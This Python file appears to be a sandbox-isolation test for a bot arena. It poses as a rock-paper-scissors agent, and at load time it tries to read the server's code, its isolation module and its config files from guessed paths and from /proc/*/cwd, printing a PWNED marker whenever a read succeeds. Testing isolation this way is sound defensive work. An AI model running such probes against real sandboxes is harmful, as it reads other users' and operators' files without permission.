# category: other-bots-code
# attack: read the server's code and the example bots from likely project paths and through /proc/*/cwd
# marker: PWNED-other_bots_project_files
# expect: ERROR|DONE
MARK = "PWNED" + "-other_bots_project_files"
RELATIVE = ["server/bots/rps_random.py", "server/sandbox/isolation.py", "server/config.py", "pyproject.toml"]

try:
    import os
except ImportError as exc:
    os = None
    print("no os:", repr(exc))

roots = ["/work/main", "/app", "/srv/arena", "/opt/arena", "/root/arena", ".", ".."]
if os is not None:
    try:
        roots += [f"/proc/{p}/cwd" for p in os.listdir("/proc") if p.isdigit()]
    except Exception as exc:
        print("no /proc:", repr(exc))

for root in roots:
    for relative in RELATIVE:
        path = root + "/" + relative
        try:
            with open(path) as file:
                text = file.read(200)
        except Exception:
            continue
        print(MARK, path, text[:60])
print("tried", len(roots) * len(RELATIVE), "paths")


def agent(observation, configuration):
    return observation.step % configuration.signs
